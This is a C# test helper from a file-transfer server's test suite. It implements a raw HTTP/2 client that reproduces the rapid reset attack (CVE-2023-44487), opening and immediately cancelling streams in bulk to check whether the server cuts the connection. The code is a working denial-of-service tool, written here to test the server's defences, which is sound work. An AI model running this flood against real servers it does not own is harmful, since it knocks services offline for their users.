using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;
using FileTransfer.Server.Tests.Infrastructure;

namespace FileTransfer.Server.Tests.Hosting;

/// <summary>
/// A hand-written HTTP/2 client doing what the rapid reset attack (CVE-2023-44487) does: on one
/// connection, opens stream after stream (a HEADERS frame) and cancels each at once (RST_STREAM),
/// never waiting for an answer. What the server sends back is read and thrown away.
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 0x1;
    private const byte ResetStream = 0x3;
    private const byte Settings = 0x4;
    private const byte Ping = 0x6;
    private const byte Ack = 0x1;
    private const byte EndStream = 0x1;
    private const byte EndHeaders = 0x4;
    private const uint Cancel = 0x8;

    /// <summary>Sends up to <paramref name="streams"/> reset streams for <paramref name="path"/>; returns how many went out before the server closed the connection.</summary>
    public static async Task<int> RunAsync(Uri server, string path, int streams, string? apiKey, bool grpc)
    {
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(server.Host, server.Port);
        var stream = tcp.GetStream();
        using var stop = new CancellationTokenSource();
        var pingAcked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var drain = DrainAsync(stream, pingAcked, stop.Token);

        var block = HeaderBlock(grpc ? "POST" : "GET", path, $"{server.Host}:{server.Port}", apiKey, grpc);
        var batch = new MemoryStream();
        batch.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        WriteFrame(batch, Settings, 0, 0, []);
        var sent = 0;
        try
        {
            for (var i = 0; i < streams; i++)
            {
                var id = (2 * i) + 1;

                // A gRPC call leaves its request body open (no END_STREAM), as a real call would.
                WriteFrame(batch, Headers, (byte)(EndHeaders | (grpc ? 0 : EndStream)), id, block);
                var code = new byte[4];
                BinaryPrimitives.WriteUInt32BigEndian(code, Cancel);
                WriteFrame(batch, ResetStream, 0, id, code);
                if (batch.Length > 16 * 1024 || i == streams - 1)
                {
                    await stream.WriteAsync(batch.GetBuffer().AsMemory(0, (int)batch.Length));
                    batch.SetLength(0);
                    sent = i + 1;
                }
            }

            // The server reads a connection's frames in order and acknowledges a PING once it has read
            // it: then it has acted on every reset before it, and the connection may go away. (Or it
            // closed the connection first: its defence.)
            WriteFrame(batch, Ping, 0, 0, new byte[8]);
            await stream.WriteAsync(batch.GetBuffer().AsMemory(0, (int)batch.Length));
            await Task.WhenAny(pingAcked.Task, drain).WaitAsync(TestTimeout.Token);
        }
        catch (IOException)
        {
            // The server closed the connection: its defence, or ours.
        }

        await stop.CancelAsync();
        await drain;
        return sent;
    }

    // Reads the server's frames until it closes the connection, throwing all away but the PING's ACK.
    private static async Task DrainAsync(NetworkStream stream, TaskCompletionSource pingAcked, CancellationToken stop)
    {
        var header = new byte[9];
        var payload = new byte[64 * 1024];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header, stop);
                for (var left = (header[0] << 16) | (header[1] << 8) | header[2]; left > 0; left -= Math.Min(left, payload.Length))
                {
                    await stream.ReadExactlyAsync(payload.AsMemory(0, Math.Min(left, payload.Length)), stop);
                }

                if (header[3] == Ping && (header[4] & Ack) != 0)
                {
                    pingAcked.TrySetResult();
                }
            }
        }
        catch (Exception e) when (e is IOException or OperationCanceledException or ObjectDisposedException)
        {
            // The connection ended (EndOfStreamException is an IOException), or the test stopped reading.
        }
    }

    private static void WriteFrame(Stream output, byte type, byte flags, int streamId, byte[] payload)
    {
        Span<byte> header = stackalloc byte[9];
        header[0] = (byte)(payload.Length >> 16);
        header[1] = (byte)(payload.Length >> 8);
        header[2] = (byte)payload.Length;
        header[3] = type;
        header[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(header[5..], streamId);
        output.Write(header);
        output.Write(payload);
    }

    /// <summary>HPACK (RFC 7541) without Huffman or the dynamic table: static-table names, literal values.</summary>
    private static byte[] HeaderBlock(string method, string path, string authority, string? apiKey, bool grpc)
    {
        var block = new MemoryStream();
        block.WriteByte(method == "GET" ? (byte)0x82 : (byte)0x83); // :method, static entries 2 and 3
        block.WriteByte(0x86); // :scheme http, static entry 6
        Literal(block, 4, path); // :path
        Literal(block, 1, authority); // :authority
        if (grpc)
        {
            Literal(block, 31, "application/grpc"); // content-type
            Literal(block, null, "trailers", "te");
        }

        if (apiKey is not null)
        {
            Literal(block, 23, "Bearer " + apiKey); // authorization
        }

        return block.ToArray();
    }

    // Literal Header Field without Indexing (RFC 7541 6.2.2): 4-bit name index, or 0 and a literal name.
    private static void Literal(Stream block, int? nameIndex, string value, string? name = null)
    {
        if (nameIndex is { } index)
        {
            Integer(block, 0x00, 4, index);
        }
        else
        {
            block.WriteByte(0x00);
            String(block, name!);
        }

        String(block, value);
    }

    private static void String(Stream block, string text)
    {
        var bytes = Encoding.ASCII.GetBytes(text);
        Integer(block, 0x00, 7, bytes.Length);
        block.Write(bytes);
    }

    // RFC 7541 5.1: an integer with an N-bit prefix.
    private static void Integer(Stream block, byte flags, int prefixBits, int value)
    {
        var max = (1 << prefixBits) - 1;
        if (value < max)
        {
            block.WriteByte((byte)(flags | value));
            return;
        }

        block.WriteByte((byte)(flags | max));
        value -= max;
        while (value >= 128)
        {
            block.WriteByte((byte)((value % 128) + 128));
            value /= 128;
        }

        block.WriteByte((byte)value);
    }
}
